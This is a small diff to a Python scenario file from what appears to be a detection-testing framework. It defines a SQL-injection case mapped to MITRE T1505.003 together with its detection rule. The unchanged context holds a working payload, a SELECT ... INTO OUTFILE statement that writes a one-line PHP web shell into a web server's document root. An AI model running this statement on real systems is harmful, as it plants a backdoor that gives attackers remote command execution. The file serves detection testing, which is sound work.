@@ -1,7 +1,6 @@
 """F4: INTO OUTFILE leaves a program where a web server finds it."""
 
 from backwatch.attack.clients.mysql_connector import MySQLConnector
-from backwatch.attack.protocols.tables import MySQLOfTables
 from backwatch.attack.scenarios import Run
 from backwatch.attack.techniques.sql import ReportPage
 
@@ -13,7 +12,6 @@ class WritesFile(ReportPage):
     attack = "writes a program into a web server's folder"
     reference = "https://attack.mitre.org/techniques/T1505/003/"
     rule = "statement-touches-files"
-    server = MySQLOfTables
     captures = b"INTO OUTFILE"
     statement = "SELECT '<?php system($_GET[0]);' INTO OUTFILE '/var/www/html/x.php'"
     runs = (Run(MySQLConnector),)
